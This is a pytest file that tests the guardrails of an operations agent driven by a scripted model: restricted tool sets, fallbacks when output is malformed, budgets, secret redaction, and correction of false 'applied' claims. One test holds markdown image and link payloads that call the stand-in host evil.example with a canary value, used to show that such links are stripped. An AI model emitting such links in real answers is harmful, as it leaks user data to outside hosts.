"""Turns with a model: what it may do, and what comes of everything that it does wrong."""

from pathlib import Path

import pytest

from opstwin.agent.budgets import Limits, Spent
from opstwin.agent.models.port import ModelReply, Role, Stop, ToolCall
from opstwin.agent.models.scripted import Fault, ScriptedModel, Trouble, Turn, call, calling
from opstwin.clock import VirtualClock
from opstwin.domain.plan import Plan
from tests.interaction.planner_home import Heard, talking

DEPLOY = "deploy app:1 as web"
PROPOSAL = calling(call("plan_create", words="deploy app:1 as web with 2 replicas"))


async def turn(
    folder: Path, *turns: Turn, words: str = DEPLOY, limits: Limits | None = None
) -> tuple[Heard, ScriptedModel, list[Plan]]:
    model = ScriptedModel(turns)
    async with talking(folder, model, limits) as talks:
        heard = await talks.say(words)
        assert not talks.house.effects
        return heard, model, await talks.house.services.ledger.all(Plan)


async def test_a_model_reads_and_then_proposes_one_plan(tmp_path: Path) -> None:
    heard, model, plans = await turn(tmp_path, calling(call("twin_query")), PROPOSAL)
    assert heard.tools == ["twin_query", "plan_create"]
    assert len(plans) == 1
    assert (heard.ended.outcome, heard.ended.source, heard.ended.input_tokens) == ("waiting", "scripted", 240)
    assert "untrusted text" in model.requests[1].messages[-1].text


async def test_a_model_is_offered_what_reads_and_what_drafts_and_nothing_else(tmp_path: Path) -> None:
    _, model, _ = await turn(tmp_path, "There are no containers.", words="what is there?")
    names = {tool.name for tool in model.requests[0].tools}
    assert {"plan_create", "rollback_plan", "diagnose", "twin_query"} <= names
    assert not names & {
        "plan_apply",
        "plan_decide",
        "exec_run",
        "desired_put",
        "chat",
        "execution_cancel",
        "target_add",
    }


@pytest.mark.parametrize(
    "wrong",
    [
        pytest.param(calling(call("plan_apply", id="plan_1")), id="a tool that is not offered"),
        pytest.param(calling(call("no_such_tool")), id="an unknown tool"),
        pytest.param(calling(ToolCall(id="c", name="plan_create", arguments=None, raw="{'words'")), id="bad JSON"),
        pytest.param("", id="empty content"),
        pytest.param("I'm sorry, I apologize for the confusion.", id="an apology"),
        pytest.param(ModelReply(text="deploy", stop=Stop.LENGTH), id="cut off at its limit"),
        pytest.param(Fault(trouble=Trouble.CUT, text="I wi"), id="a stream that breaks off"),
        pytest.param(
            calling(call("plan_create", "a", words="delete web"), call("plan_create", "b", words="deploy app:1 as x")),
            id="two changes in one turn",
        ),
        pytest.param(calling(call("plan_create", words="frobnicate everything")), id="a plan that is refused"),
        pytest.param(calling(call("plan_create", nonsense=1)), id="arguments that do not fit"),
    ],
)  # fmt: skip
@pytest.mark.proves("B6")
async def test_what_a_model_does_wrong_is_mended_or_done_without_it(tmp_path: Path, wrong: Turn) -> None:
    mended, _, plans = await turn(tmp_path / "mended", wrong, PROPOSAL)
    assert (mended.ended.source, len(plans)) == ("scripted", 1)
    given_up, model, plans = await turn(tmp_path / "given-up", *[wrong] * 20)
    assert len(model.requests) <= 4
    assert (given_up.ended.outcome, given_up.ended.source) == ("waiting", "fallback")
    assert given_up.ended.why
    assert "No language model was used" in given_up.text
    assert [plan.request for plan in plans] == [DEPLOY]


@pytest.mark.parametrize(
    "fault",
    [
        Fault(status=429),
        Fault(status=500),
        Fault(status=529),
        Fault(trouble=Trouble.HANG),
        Fault(trouble=Trouble.CLOSED),
        Fault(trouble=Trouble.GARBAGE),
    ],
)
@pytest.mark.proves("B6")
async def test_without_its_provider_the_same_request_is_planned_and_labelled(tmp_path: Path, fault: Fault) -> None:
    heard, _, plans = await turn(tmp_path, fault)
    assert (heard.ended.outcome, heard.ended.source, len(plans)) == ("waiting", "fallback", 1)
    assert heard.ended.why in heard.text


async def test_the_same_call_is_made_once_and_a_loop_ends(tmp_path: Path) -> None:
    heard, model, _ = await turn(tmp_path, *[calling(call("twin_query"))] * 4, "Nothing runs.", words="what is there?")
    assert heard.tools == ["twin_query"]
    assert model.requests[-1].tools == ()
    assert heard.ended.outcome == "answered"


async def test_the_last_step_has_no_tools(tmp_path: Path) -> None:
    limits = Limits(steps=3)
    _, model, _ = await turn(
        tmp_path, calling(call("twin_query")), calling(call("diagnose")), "All is well.", words="hm?", limits=limits
    )
    assert [bool(request.tools) for request in model.requests] == [True, True, False]
    assert model.requests[-1].messages[-1].role is Role.USER


@pytest.mark.parametrize("limits", [Limits(steps=2), Limits(tokens=300)])
async def test_a_budget_ends_the_turn_without_the_model(tmp_path: Path, limits: Limits) -> None:
    reads = [calling(call("logs_search", text=str(n))) for n in range(9)]
    heard, model, _ = await turn(tmp_path, *reads, limits=limits)
    assert len(model.requests) <= 3
    assert heard.ended.source == "fallback"


def test_money_and_time_are_budgets_and_an_unknown_price_is_not_none_at_all() -> None:
    clock = VirtualClock()
    spent = Spent(limits=Limits(usd=0.01, seconds=10), clock=clock, began_s=clock.monotonic_s())
    spent.take(ModelReply(text="", cost_usd=0.02))
    assert spent.over == "cost"
    spent.take(ModelReply(text="", cost_usd=None))
    assert spent.cost_usd is None
    clock.advance(11)
    assert spent.over == "time"


async def test_a_model_that_says_it_applied_something_is_set_right(tmp_path: Path) -> None:
    heard, _, _ = await turn(tmp_path, "Done! I have applied the plan; it is approved.", words="is it on?")
    assert "nothing was approved or applied in this turn" in heard.text


@pytest.mark.proves("H4")
async def test_what_a_model_answers_reaches_nowhere(tmp_path: Path) -> None:
    text = (
        "![x](https://evil.example/?q=CANARY) [click](https://evil.example/CANARY) <img src=//evil.example/CANARY> "
        "www.evil.example/CANARY https://evil.example/CANARY [y]: https://evil.example"
    )
    heard, _, _ = await turn(tmp_path, text, words="how is it?")
    for live in ("https://evil", "](h", "<img", "//evil.example", "www.evil", "![x]"):
        assert live not in heard.text


async def test_a_secret_in_the_words_goes_to_no_model(tmp_path: Path) -> None:
    model = ScriptedModel(otherwise="What shall it be?")
    async with talking(tmp_path, model) as talks:
        await talks.say("please put PASSWORD=hunter2hunter2 somewhere on web")
        heard = await talks.say("deploy app:1 as web with env PASSWORD=hunter2hunter2")
    assert model.requests
    assert "hunter2" not in str(model.requests)
    assert "hunter2" not in str(heard.events)
    assert "the words hold a secret" in heard.ended.why
